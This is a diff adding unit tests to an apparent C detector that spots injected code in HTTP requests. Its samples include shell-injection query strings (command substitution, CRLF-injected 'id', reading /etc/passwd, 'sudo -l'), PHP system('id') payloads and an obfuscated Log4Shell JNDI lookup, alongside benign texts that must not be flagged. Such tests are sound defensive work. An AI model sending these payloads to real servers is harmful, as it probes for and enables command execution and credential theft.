@@ -5,6 +5,7 @@
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 
 #include <cmocka.h>
@@ -83,6 +84,10 @@ static void disguised_commands_are_still_commands(void **state)
 		{ HEAD("/p?x=1;/?b?n/c?t%20/etc/hosts"), LANGUAGE_SHELL, "/?b?n/c?t /etc/hosts", CONTEXT_AFTER, SINK_RESOURCE },
 		{ HEAD("/p?x=1;X=$'uname%20-a';$X"), LANGUAGE_SHELL, "X=$'uname -a';$X", CONTEXT_AFTER, SINK_RESOURCE },
 		{ HEAD("/p?x=1%253Bwhoami"), LANGUAGE_SHELL, "whoami", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1%3B$(echo%20id)"), LANGUAGE_SHELL, "$(echo id)", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1%7C`echo%20id`"), LANGUAGE_SHELL, "`echo id`", CONTEXT_PIPED_INTO, SINK_RESOURCE },
+		{ HEAD("/p?x=%0D%0Aid%0D%0A"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=%3B%7Bcat,/etc/passwd%7D"), LANGUAGE_SHELL, "{cat,/etc/passwd}", CONTEXT_AFTER, SINK_RESOURCE },
 		{ HEAD("/p?x=MTI3LjAuMC4xO2lk"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
 	};
 
@@ -102,6 +107,43 @@ static void whole_values_are_commands_where_they_are_asked_for(void **state)
 	expect_all(samples, COUNT_OF(samples));
 }
 
+static void values_beyond_the_bound_are_counted(void **state)
+{
+	static const char head[] = "GET /p?x=;id";
+	enum { FIELDS = 1200 };
+	char *request = malloc(sizeof(head) + FIELDS * 4 + 32);
+	struct extraction *e = NULL;
+	size_t len = sizeof(head) - 1;
+
+	memcpy(request, head, len);
+	for (unsigned i = 0; i < FIELDS; i++, len += 4)
+		memcpy(request + len, "&a=1", 4);
+	memcpy(request + len, " HTTP/1.1\r\n\r\n", 13);
+	assert_int_equal(extract_bytes(bytes_of(request, len + 13), &e), 0);
+	assert_int_equal(e->count, 1);
+	assert_true(e->left > 0);
+	extraction_free(e);
+	free(request);
+}
+
+static void ordinary_text_is_no_command(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/p?x=/SEARCH/HANDMADE?Q=%22MOD%22%26PAGE=3"), 0, NULL, 0, 0 },
+		{ HEAD("/p?x=1;+exec+will+create+the+case+7"), 0, NULL, 0, 0 },
+		{ FORM("x=imports%0Aif+__name__+%3D%3D+%22__main__%22%3A%0A++++print(where())"), 0, NULL, 0, 0 },
+		{ FORM("x=options+%3D%0A{%22help%22,+no_argument,+0},%0A{%22version%22,+1}"), 0, NULL, 0, 0 },
+		{ FORM("x=Example:%0A```python%0Aimport+httplib2%0Ah+=+Http(%22.cache%22)%0A```%0Aand+so+on"), 0, NULL, 0, 0 },
+		{ FORM("x=AT%26T;+cat+%26+dog"), 0, NULL, 0, 0 },
+		{ FORM("x=;top+Something+else+1+The+title.+After+more+words"), 0, NULL, 0, 0 },
+		{ HEAD("/p?x=1;/tmp/.x/run+-d"), LANGUAGE_SHELL, "/tmp/.x/run -d", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1;/u*r/b?n/id"), LANGUAGE_SHELL, "/u*r/b?n/id", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1;sudo+-l"), LANGUAGE_SHELL, "sudo -l", CONTEXT_AFTER, SINK_RESOURCE },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
 static void code_in_headers_does_not_hang_on_the_resource(void **state)
 {
 	static const struct sample samples[] = {
@@ -114,6 +156,10 @@ static void code_in_headers_does_not_hang_on_the_resource(void **state)
 		{ HEAD("/?a=%3C?=`id`?%3E"), LANGUAGE_PHP, "<?=`id`?>", CONTEXT_ALONE, SINK_RESOURCE },
 		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
 		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
+		/* a log that is included later runs it; in a body only the resource does */
+		{ HEAD("/missing?%3C?php%20system('id');"), LANGUAGE_PHP, "<?php system('id');", CONTEXT_ALONE, SINK_HEADER },
+		{ "POST /eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');", LANGUAGE_PHP, "<?php system('id');",
+		  CONTEXT_ALONE, SINK_RESOURCE },
 	};
 
 	expect_all(samples, COUNT_OF(samples));
@@ -213,6 +259,8 @@ int main(void)
 		cmocka_unit_test(quotes_of_the_carriers_command_line_are_broken_out_of),
 		cmocka_unit_test(disguised_commands_are_still_commands),
 		cmocka_unit_test(whole_values_are_commands_where_they_are_asked_for),
+		cmocka_unit_test(ordinary_text_is_no_command),
+		cmocka_unit_test(values_beyond_the_bound_are_counted),
 		cmocka_unit_test(code_in_headers_does_not_hang_on_the_resource),
 		cmocka_unit_test(paths_that_leave_their_folder_are_code),
 		cmocka_unit_test(ordinary_text_gives_nothing),
